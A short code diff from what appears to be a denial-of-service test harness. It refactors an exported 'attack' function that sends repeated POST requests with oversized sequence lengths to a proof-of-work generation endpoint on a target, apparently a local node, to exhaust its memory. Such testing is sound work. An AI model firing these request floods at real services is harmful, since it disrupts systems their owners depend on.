@@ -3,7 +3,7 @@ import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { ROUND } from "../paced-node.mjs";
-import { again, writeOnly } from "../sockets.mjs";
+import { again, post, writeOnly } from "../sockets.mjs";
 import { CONTEXT, writeWideModel } from "../wide-model.mjs";
 
 const LONGEST = 16_384; // 2 GiB
@@ -25,10 +25,6 @@ let height = 2;
 export const attack = (target) =>
   again({ count: 4, milliseconds: 250 }, (number) => {
     const seq_len = [LONGEST, 131_072, CONTEXT, LONGEST][number];
-    const body = JSON.stringify({ ...ROUND, block_height: height++, seq_len });
-    return writeOnly(
-      target,
-      "POST /api/v1/pow/init/generate HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
-        `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
-    );
+    const body = { ...ROUND, block_height: height++, seq_len };
+    return writeOnly(target, post("/api/v1/pow/init/generate", body));
   });
